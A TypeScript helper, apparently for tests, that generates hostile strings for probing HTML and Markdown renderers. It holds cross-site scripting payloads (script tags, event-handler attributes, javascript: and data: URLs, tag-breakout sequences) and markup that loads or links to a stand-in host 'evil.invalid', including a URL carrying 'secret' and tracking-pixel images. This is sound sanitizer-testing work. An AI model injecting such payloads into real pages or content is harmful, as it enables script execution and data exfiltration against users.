const ADDRESSES = [
  'javascript:void(window.pwned=1)',
  'JaVaScRiPt:window.pwned=1',
  'java\nscript:window.pwned=1',
  'data:text/html,<script>top.pwned=1</script>',
  'vbscript:pwned',
  '//evil.invalid/x',
  'https://evil.invalid/?q=secret',
  'http://evil.invalid/a.png',
] as const;

const SHAPES: readonly ((address: string) => string)[] = [
  () => '<script>window.pwned=1</script>',
  () => '<img src=x onerror="window.pwned=1">',
  () => '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName=x dur=1s>',
  () => '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  () => '"><input autofocus onfocus="window.pwned=1">',
  () => '<details open ontoggle="window.pwned=1">x</details>',
  () => '<style>@import "https://evil.invalid/x.css"; * { background: url(https://evil.invalid/y) }</style>',
  () => '</textarea></script></title><script>window.pwned=1</script>',
  (address) => `<img src="${address}">`,
  (address) => `<a href="${address}">click</a>`,
  (address) =>
    `<link rel=stylesheet href="${address}"><base href="${address}"><meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `[click](${address})`,
  (address) => `![pixel](${address})`,
  (address) => `[![pixel](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[click]: ${address}\n[click]`,
  (address) => `**bold [x](${address})** \`code\` ${address}`,
];

/** Texts that run, load or lead somewhere wherever text is taken for markup. `window.pwned` and `evil.invalid` give it away. */
export function hostileStrings(count: number): readonly string[] {
  const all = SHAPES.flatMap((shape) => ADDRESSES.map((address) => shape(address)));
  return Array.from({ length: count }, (_, at) => {
    const text = all[at % all.length]!;
    return at < all.length ? text : `${'_*`~>'[at % 5]}${text}${'_*`~<'[at % 5]} ${at}`;
  });
}
